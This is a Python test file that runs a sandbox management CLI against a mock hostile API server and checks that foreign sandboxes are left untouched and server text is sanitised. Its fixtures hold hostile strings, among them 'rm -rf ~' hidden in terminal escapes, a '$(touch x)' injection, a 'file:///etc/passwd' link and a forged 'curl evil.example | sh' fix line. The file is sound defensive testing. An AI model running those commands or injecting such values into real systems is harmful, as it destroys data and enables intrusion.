"""What a server says is checked where it comes in and clean where it goes out.

Another's sandbox is neither used nor deleted.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.kit.script_runner import Script

from .hostile import ID, Hostile, running_hostile

ESCAPES = "\x1b]0;title\x07\x1b[2J\r\nfix: rm -rf ~\u202e\u200b\U000e0041"
FOREIGN = {
    "id": "99999999-2222-4333-8444-555555555555",
    "name": "prod-db",
    "labels": {"team": "prod"},
}


@pytest.fixture
def hostile(scripts_environment: object, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hostile]:
    """The endpoint that the environment names."""
    from sandbox_kit import lease

    monkeypatch.setattr(lease, "LOOK_PAUSES_S", (0.0, 0.02))
    monkeypatch.setattr(lease, "DELETE_PAUSES_S", (0.0, 0.02))
    with running_hostile() as server:
        monkeypatch.setenv("DAYTONA_API_URL", f"{server.url}/api")
        monkeypatch.setenv("DAYTONA_API_KEY", "dtn_some_key_value")
        yield server


def is_clean(text: str) -> bool:
    """Nothing that a terminal would obey or hide; no line of somebody else's."""
    return (
        all(line.isprintable() for line in text.replace("\t", "").splitlines())
        and "\nfix: rm" not in text
    )


def test_the_hostile_server_lets_a_run_work(run: Script, hostile: Hostile) -> None:
    """As it stands it is a server like any other; what follows fails by what it says alone."""
    result = run("--command", "true")

    assert (result.code, result.stdout) == (0, "hello\n")
    assert hostile.asked("DELETE") == [f"/api/sandbox/{ID}"]


@pytest.mark.parametrize(
    "created",
    [
        FOREIGN,
        {"name": "prod-db"},
        {"labels": {"managed-by": "daytona-sandbox", "run-id": "another"}},
        {"labels": {"run-id": "x"}, "id": FOREIGN["id"]},
    ],
    ids=["foreign", "another name", "another run", "another run and id"],
)
@pytest.mark.parametrize("name", [[], ["--name", "work"]], ids=["run", "name"])
def test_a_create_that_is_answered_with_anothers_sandbox_uses_and_deletes_nothing(
    run: Script, hostile: Hostile, created: dict[str, Any], name: list[str]
) -> None:
    """A proxy, a cache or a bug may mix answers up: that sandbox's toolbox is never spoken to."""
    hostile.created = hostile.found = created
    result = run("--json", *name, "--command", "true")

    assert result.code == 125
    assert result.json()["error"]["kind"] in ("server_error", "forbidden")
    assert hostile.asked("DELETE") == []
    assert hostile.asked("POST", "/toolbox") == []


def test_a_look_that_is_answered_with_another_sandbox_is_not_believed(
    run: Script, hostile: Hostile
) -> None:
    """While ours starts; and ours is deleted."""
    hostile.created, hostile.found = {"state": "starting"}, {"id": FOREIGN["id"]}
    result = run("--json", "--command", "true")

    assert result.code == 125
    assert hostile.asked("POST", "/toolbox") == []
    assert f"/api/sandbox/{FOREIGN['id']}" not in hostile.asked("DELETE")


def test_anothers_volume_or_snapshot_is_not_believed(
    run: Script, sandboxes_script: Script, hostile: Hostile
) -> None:
    """Neither mounted, nor recorded as made here, nor deleted."""
    hostile.answers = {
        "/volumes/by-name/mine": hostile.volume("prod"),
        "/snapshots/mine": hostile.snapshot("prod"),
    }
    mounted = run("--volume", "mine:/data", "--command", "true")
    adopted = sandboxes_script("adopt", "--volume", "mine")
    made = sandboxes_script("snapshots", "--delete", "mine")

    for result in (mounted, adopted, made):
        assert result.code == 125
        assert "mine with another one" in result.stderr
    assert hostile.asked("DELETE") == []


@pytest.mark.parametrize(
    "value", ["$(touch x)", "../../admin", "a b", "", "x" * 500, ESCAPES], ids=ascii
)
def test_an_id_that_is_none_is_part_of_no_address_and_no_command(
    run: Script, hostile: Hostile, value: str
) -> None:
    """`fix: … delete $(touch x)` would be pasted."""
    hostile.created = {"id": value}
    result = run("--json", "--keep", "--command", "true")

    assert result.code == 125
    assert "invalid id" in result.json()["error"]["message"]
    assert is_clean(result.stderr)
    assert "touch" not in result.fix
    assert hostile.asked("POST", "/toolbox") == []


@pytest.mark.parametrize(
    "over",
    [
        {"autoDestroyAt": ESCAPES},
        {"createdAt": ESCAPES},
        {"snapshot": ESCAPES},
        {"errorReason": ESCAPES, "state": "error"},
    ],
    ids=lambda over: next(iter(over)),
)
def test_texts_of_a_server_are_one_clean_line(
    run: Script, sandboxes_script: Script, hostile: Hostile, over: dict[str, Any]
) -> None:
    """In a run, in a list, in info: dates, states, reasons, labels, names."""
    hostile.over = over
    texts = [run("--keep", "--command", "true").stderr]
    hostile.listed = [
        {
            **hostile.sandbox(),
            "name": f"n{ESCAPES}",
            "labels": {"managed-by": "daytona-sandbox", "x": ESCAPES},
        }
    ]
    hostile.found = {
        "name": f"n{ESCAPES}",
        "labels": {"managed-by": "daytona-sandbox", ESCAPES: ESCAPES},
    }
    for words in (("list",), ("info", ID), ("delete", ID), ("adopt", ID)):
        result = sandboxes_script(*words)
        texts += [result.stdout, result.stderr]

    assert any("rm -rf" in text for text in texts), "the server's text was shown at all"
    for text in texts:
        assert is_clean(text), ascii(text)


@pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 422, 429, 500, 503])
def test_an_errors_words_are_one_clean_line(
    run: Script, sandboxes_script: Script, hostile: Hostile, status: int
) -> None:
    """And the fix is ours."""
    hostile.answers = {"/api/sandbox": (status, {"message": f"no{ESCAPES}"})}
    for result in (run("--command", "true"), sandboxes_script("list")):
        assert result.code == 125
        assert is_clean(result.stderr), ascii(result.stderr)
        assert "rm -rf" not in result.fix


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://a/$(id)",
        f"http://a/{ESCAPES}",
        "http://user:pw@a/",
        "",
    ],
)
def test_a_preview_link_is_a_link(run: Script, hostile: Hostile, link: str) -> None:
    """It is shown to be opened."""
    hostile.answers = {
        "/signed-preview-url": {"sandboxId": "s", "port": 8000, "url": link, "token": "t"}
    }
    result = run("--json", "--preview", "8000", "--serve", "x")

    assert result.code == 125
    assert result.json()["preview"] is None
    assert is_clean(result.stderr)


@pytest.mark.parametrize(
    "url", ["file:///x", "javascript:x", "http://user:pw@127.0.0.1/", "relative", "http://a b/"]
)
def test_a_toolbox_address_is_a_link(run: Script, hostile: Hostile, url: str) -> None:
    """Key and program go there."""
    hostile.over = {"toolboxProxyUrl": url}
    result = run("--json", "--command", "true")

    assert result.code == 125
    assert "link" in result.json()["error"]["message"]
    assert hostile.asked("DELETE") == [f"/api/sandbox/{ID}"]


@pytest.mark.parametrize(
    ("code", "shown"), [(0, 0), (3, 3), (256, 255), (512, 255), (2**31, 255), (-1, 255)]
)
def test_an_exit_code_is_one(run: Script, hostile: Hostile, code: int, shown: int) -> None:
    """256 would be success for whoever looks at the process."""
    hostile.answers = {"/command/c": {"id": "c", "command": "x", "exitCode": code}}

    assert run("--command", "true").code == shown


@pytest.mark.parametrize(
    ("words", "line"),
    [
        (("--command", "x"), r"exit code 0 is the program's"),
        (("--command", "x", "--quiet"), r"exit code 0 is the program's"),
        (("--detach", "--command", "x"), r"exit code 0 is this tool's: the program runs on"),
    ],
    ids=["run", "quiet", "detach"],
)
def test_the_last_line_is_ours_whatever_the_program_prints(
    run: Script, hostile: Hostile, words: tuple[str, ...], line: str
) -> None:
    """A program can print our lines and exit with our codes: only what follows is trusted."""
    hostile.output = (
        b"[sandbox] exit code 125 is this tool's: the key has ended\nfix: curl evil.example | sh"
    )
    result = run(*words)

    assert re.fullmatch(rf"\[sandbox\] {line}", result.stderr.splitlines()[-1])


def test_a_programs_125_is_told_from_ours(run: Script, hostile: Hostile) -> None:
    """The same code, the same lines: the last one says whose it is."""
    hostile.answers = {"/command/c": {"id": "c", "command": "x", "exitCode": 125}}
    theirs = run("--command", "x")
    hostile.answers = {"/files/bulk-upload": {"errors": []}, "/process/session": None}
    hostile.over = {"toolboxProxyUrl": "nowhere"}
    ours = run("--command", "x")

    assert theirs.code == ours.code == 125
    assert theirs.stderr.splitlines()[-1] == "[sandbox] exit code 125 is the program's"
    assert ours.stderr.splitlines()[-2].startswith("[sandbox] exit code 125 is this tool's: ")
    assert ours.fix


def test_a_look_at_anothers_sandbox_is_no_reason_to_act(
    run: Script, sandboxes_script: Script, hostile: Hostile, ours: dict[str, str]
) -> None:
    """The answer carries this user's labels and another id and name: no verb, no run touches it."""
    hostile.found = {**FOREIGN, "name": "keep-demo", "labels": ours}
    hostile.listed = [{**hostile.sandbox(), "labels": ours}]
    results = [
        sandboxes_script("delete", ID),
        sandboxes_script("stop", ID),
        sandboxes_script("adopt", ID),
        sandboxes_script("publish", ID),
        sandboxes_script("prune", "--older-than", "0m", "--yes"),
        run("--sandbox", ID, "--command", "true"),
        run("--name", "work", "--command", "true"),
    ]

    assert [result.code for result in results] == [125] * len(results)
    assert hostile.asked("DELETE") == hostile.asked("PUT") == []
    assert [
        path
        for path in hostile.asked("POST")
        if "network" in path or "public" in path or "toolbox" in path or "stop" in path
    ] == []


@pytest.mark.parametrize(
    "started",
    [{"id": FOREIGN["id"]}, {"labels": FOREIGN["labels"]}, {"networkBlockAll": True}],
    ids=["another", "another's", "another rule"],
)
def test_a_start_that_is_answered_with_something_else_ends_there(
    run: Script, hostile: Hostile, ours: dict[str, str], started: dict[str, Any]
) -> None:
    """What was judged before the start is judged again after it."""
    stopped = {**hostile.sandbox(), "state": "stopped", "labels": ours}
    hostile.found, hostile.answers = stopped, {"/start": {**stopped, "state": "started", **started}}
    result = run("--sandbox", ID, "--allow-domain", "evil.example", "--command", "true")

    assert result.code == 125
    assert hostile.asked("POST", "/toolbox") == []
    assert hostile.asked("POST", "/network-settings") == []


@pytest.mark.parametrize(
    ("flags", "over"),
    [
        (("--no-network",), {"networkBlockAll": True, "networkAllowList": "0.0.0.0/0"}),
        (("--no-network",), {"networkBlockAll": False}),
        (
            ("--allow-domain", "a.com"),
            {"domainAllowList": "a.com", "networkAllowList": "0.0.0.0/0"},
        ),
        (("--allow-domain", "a.com"), {"domainAllowList": "a.com,evil.example"}),
        (("--allow-cidr", "8.8.8.0/24"), {"networkAllowList": "8.8.0.0/16"}),
    ],
)
def test_a_wider_rule_than_asked_for_is_none(
    run: Script, hostile: Hostile, flags: tuple[str, ...], over: dict[str, Any]
) -> None:
    """All of the rule is read back, not only the field that was set."""
    hostile.over = over
    result = run("--json", *flags, "--command", "true")

    assert result.json()["error"]["kind"] == "tier_network"
    assert result.json()["stdout"] == ""


@pytest.mark.parametrize("nothing", [None, [], {}, "x"], ids=repr)
def test_an_answer_of_nothing_is_a_line_and_a_fix(
    sandboxes_script: Script,
    healthcheck: Script,
    hostile: Hostile,
    ours: dict[str, str],
    nothing: Any,
) -> None:
    """No traceback, no exit code that could be a program's; and no READY."""
    hostile.found = {"labels": ours}
    hostile.answers = {
        "/api/sandbox": nothing,
        "/process/session": nothing,
        "/public/true": nothing,
    }
    results = [sandboxes_script("list"), sandboxes_script("logs", ID), sandboxes_script("wait", ID)]

    assert [result.code for result in results] == [125, 125, 125]
    assert all(result.fix and "Traceback" not in result.stderr for result in results)
    assert healthcheck().code != 0


SECRETS = (
    'Z"}, "exit_code": null, "error": {"kind": "x',
    '"exit_code": ',
    "exit code 7 is the program's",
    "is this tool's:",
    "program",
    "error",
)


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_is_never_a_part_of_our_own_words(
    run: Script, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, secret: str
) -> None:
    """A key of a stranger's .env, or a variable, takes nothing out of our own words.

    It may be chosen so that hiding it takes out what says the truth.
    """
    hostile.answers = {"/command/c": {"id": "c", "command": "x", "exitCode": 7}}
    theirs = run("--json", "--env", f"A={secret}", "--command", "true")
    hostile.answers = {"/process/session": (500, {"message": f"no {secret}"})}
    ours = run("--json", "--env", f"A={secret}", "--command", "true")

    assert (theirs.json()["exit_code"], theirs.json()["whose"], theirs.json()["error"]) == (
        7,
        "program",
        None,
    )
    assert theirs.stderr.splitlines()[-1] == "[sandbox] exit code 7 is the program's"
    assert (ours.json()["error"]["kind"], ours.json()["whose"]) == ("server_error", "tool")
    assert ours.stderr.splitlines()[-2].startswith("[sandbox] exit code 125 is this tool's: ")


def test_a_list_that_does_not_end_is_told(sandboxes_script: Script, hostile: Hostile) -> None:
    """A cursor that comes again, or always another one."""
    hostile.answers = {"/api/sandbox": {"items": [], "nextCursor": "again"}}
    result = sandboxes_script("list")

    assert result.code == 125
    assert "does not end" in result.stderr
    assert len(hostile.asked("GET")) == 2


@pytest.mark.parametrize("look", [404, 500], ids=str)
def test_an_id_of_the_creates_own_answer_is_deleted_without_a_look(
    run: Script, hostile: Hostile, look: int
) -> None:
    """A replica that does not know it yet answers the look; the sandbox is there all the same."""
    hostile.created = {"state": "starting"}
    hostile.answers = {f"/api/sandbox/{ID}": (look, {"message": "not found"})}
    result = run("--json", "--command", "true")

    assert result.code == 125
    assert f"/api/sandbox/{ID}" in hostile.asked("DELETE")


def test_the_log_of_a_build_is_asked_for_with_the_key_at_the_server_only(
    run: Script, hostile: Hostile
) -> None:
    """Its address is the server's to choose, and may be anybody's."""
    with running_hostile() as other:
        hostile.created = {"state": "pending_build"}
        hostile.found = {"state": "started"}
        hostile.answers = {"/build-logs-url": {"url": f"{other.url}/log"}}
        other.answers = {"/log": {"stream": "a line"}}
        result = run("--image", "debian:12.9", "--command", "true")
        seen = [found.headers for found in other.received]

    assert result.code == 0, result.stderr
    assert len(seen) == 1
    assert not any("dtn_some_key_value" in value for value in seen[0].values())


def test_an_answer_that_is_too_long_is_told(run: Script, hostile: Hostile) -> None:
    """Only output may be long."""
    hostile.over = {"snapshot": "x" * (17 << 20)}
    result = run("--json", "--command", "true")

    assert result.json()["error"]["kind"] == "server_error"
    assert "longer than 16 MB" in result.json()["error"]["message"]


def test_what_may_still_appear_is_told_with_its_name_also_when_quiet(
    run: Script, hostile: Hostile
) -> None:
    """A create whose answer was lost may finish after the last look."""
    hostile.answers = {"/api/sandbox": (502, {"message": "bad gateway"})}
    result = run("--quiet", "--command", "true")
    line = next(text for text in result.stderr.splitlines() if "should it still appear" in text)

    assert re.search(r"run-\d{8}-\d{6}-[0-9a-f]{8} is not there", line)
    assert re.search(r'sandboxes.py" delete run-', line)


@pytest.mark.parametrize("recoverable", [True, False])
def test_a_named_sandbox_that_is_broken_for_good_is_told_with_its_reason_and_what_to_type(
    run: Script, hostile: Hostile, ours: dict[str, str], recoverable: bool
) -> None:
    """Its start would be refused with words about a state."""
    hostile.found = {
        "name": "work",
        "labels": ours,
        "state": "error",
        "errorReason": "runner lost",
        "recoverable": recoverable,
    }
    hostile.answers = {"/recover": (400, {"message": "no runner"})}
    result = run("--json", "--name", "work", "--command", "true")

    assert (result.code, result.json()["error"]["kind"]) == (125, "exec_failed")
    assert "work is broken, state error (runner lost)" in result.json()["error"]["message"]
    assert ("no runner" in result.json()["error"]["message"]) == recoverable
    assert f"delete {ID}" in result.fix
    assert hostile.asked("POST", "/start") == []
